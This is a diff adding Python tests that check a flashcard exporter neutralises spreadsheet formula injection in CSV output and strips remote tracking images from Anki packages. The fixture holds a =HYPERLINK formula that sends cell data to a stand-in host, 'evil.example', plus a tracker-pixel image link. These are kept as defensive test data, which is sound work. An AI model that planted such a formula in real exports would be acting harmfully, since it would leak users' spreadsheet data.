@@ -341,3 +341,55 @@ def test_cli_start_up_does_not_load_exporters_or_parsers():
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          check=True).stdout
     assert out.strip() == "[]"
+
+
+# -- what a spreadsheet or Anki would do with exported text ---------------------------------
+
+RISKY = """\
+# Sheets
+
+Q: =HYPERLINK("http://evil.example/?"&A1, "click")
+A: +1 is not a formula here
+
+Q: @SUM(1, 2)
+A: - a list item
+- another
+
+Q: What does this diagram show?
+A: ![VPC diagram](http://tracker.example/pixel.png) and ![local](diagram.png)
+"""
+
+
+def _risky_collection(tmp_path: Path):
+    deck = tmp_path / "sheets.md"
+    deck.write_text(RISKY, encoding="utf-8")
+    engine = open_engine(tmp_path / "risky" / DB_NAME)
+    import_paths(engine, [deck], NOW)
+    return engine
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path: Path):
+    notes, _ = collect_notes(_risky_collection(tmp_path))
+    text = csv_text(notes)
+    rows = list(csv.reader(io.StringIO(text.split("#tags column:6\n", 1)[1]), delimiter="\t"))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")" in cells
+    assert "'+1 is not a formula here" in cells
+    assert "'@SUM(1, 2)" in cells
+    assert any(c.startswith("'- a list item") for c in cells)
+
+
+def test_apkg_keeps_remote_images_out(tmp_path: Path):
+    out = tmp_path / "risky.apkg"
+    write_apkg(_risky_collection(tmp_path), out)
+    with zipfile.ZipFile(out) as package:
+        package.extract("collection.anki2", tmp_path / "unpacked")
+    conn = sqlite3.connect(tmp_path / "unpacked" / "collection.anki2")
+    try:
+        fields = "\n".join(f for (f,) in conn.execute("SELECT flds FROM notes"))
+    finally:
+        conn.close()
+    assert "<img" not in fields
+    assert "[image: VPC diagram] (http://tracker.example/pixel.png)" in fields
+    assert "[image: local] (diagram.png)" in fields
